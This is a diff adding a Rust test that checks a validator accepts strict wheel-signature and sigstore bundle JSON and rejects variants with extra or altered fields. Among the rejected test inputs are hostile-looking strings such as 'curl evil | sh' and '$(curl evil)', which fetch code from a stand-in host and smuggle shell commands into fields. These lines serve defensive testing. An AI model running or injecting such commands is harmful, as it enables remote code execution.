@@ -226,3 +226,56 @@ fn a_signature_that_one_side_alone_has_is_told_as_one() {
     );
     assert_eq!(found.causes[0].cause, Cause::Content);
 }
+
+/// A signature of a wheel's RECORD, as the wheel project writes it.
+fn web_signature(payload: &str, header: &str, more: &str) -> String {
+    use base64::prelude::BASE64_URL_SAFE_NO_PAD;
+    let encoded = |text: &str| BASE64_URL_SAFE_NO_PAD.encode(text);
+    let (header, signature) = (encoded(header), "c2lnbmF0dXJl");
+    format!(
+        r#"{{"payload": "{}", "recipients": [{{"header": "{header}", "signature": "{signature}"{more}}}]}}"#,
+        encoded(payload)
+    )
+}
+
+#[test]
+fn signatures_in_json_have_no_room_for_anything_else() {
+    const DIGEST: &str = "47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU";
+    let payload = format!(r#"{{"hash": "sha256={DIGEST}"}}"#);
+    let header = r#"{"alg": "Ed25519", "jwk": {"kty": "Ed25519", "vk": "a2V5"}}"#;
+    let usual = web_signature(&payload, header, "");
+    assert!(is(usual.as_bytes()));
+    assert!(is(usual
+        .replace("recipients", "signatures")
+        .replace("header", "protected")
+        .as_bytes()));
+    let more = payload.replace('}', r#", "x": "y"}"#);
+    for other in [
+        web_signature(&more, header, ""),
+        web_signature(r#"{"hash": "curl evil"}"#, header, ""),
+        web_signature(&payload, &header.replace("kty", "run"), ""),
+        web_signature(&payload, &header.replace("a2V5", "curl evil"), ""),
+        web_signature(&payload, header, r#", "x": "y""#),
+        web_signature(&payload, header, r#", "signature": "eQ""#),
+        usual.replace("c2lnbmF0dXJl", "curl evil"),
+        usual.replacen('{', r#"{"x": 1, "#, 1),
+    ] {
+        assert!(!is(other.as_bytes()), "{other}");
+    }
+    let bundle = |material: &str| {
+        format!(
+            r#"{{"mediaType": "application/vnd.dev.sigstore.bundle+json;version=0.1",
+            "verificationMaterial": {{{material}}}, "messageSignature": {{"signature": "c2ln"}}}}"#
+        )
+    };
+    let checkpoint = r#""tlogEntries": [{"logIndex": "1", "checkpoint": {"envelope": "r.dev - 1\n2\naGk=\n\n— r.dev aGk=\n"}}]"#;
+    assert!(is(bundle(checkpoint).as_bytes()));
+    for other in [
+        r#""x": "curl evil | sh""#,
+        r#""x y": 1"#,
+        r#""x": 1, "x": 2"#,
+        r#""envelope": "$(curl evil)""#,
+    ] {
+        assert!(!is(bundle(other).as_bytes()), "{other}");
+    }
+}
